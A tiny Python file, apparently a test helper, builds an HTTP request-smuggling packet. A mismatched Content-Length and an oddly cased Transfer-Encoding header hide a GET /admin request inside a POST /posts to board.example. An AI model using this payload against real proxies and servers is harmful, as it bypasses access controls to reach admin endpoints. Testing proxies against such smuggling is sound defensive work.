# trips: the proxy passes it on as one request for /posts
"""The length counts the last chunk alone, so the proxy sees the rest as well."""


def packet():
    last = b"0\r\n\r\n"
    inner = b"GET /admin HTTP/1.1\r\nHost: board.example\r\n\r\n"
    head = b"POST /posts HTTP/1.1\r\nHost: board.example\r\nTransfer-Encoding: Chunked\r\n"
    return head + b"Content-Length: %d\r\n\r\n" % len(last) + last + inner
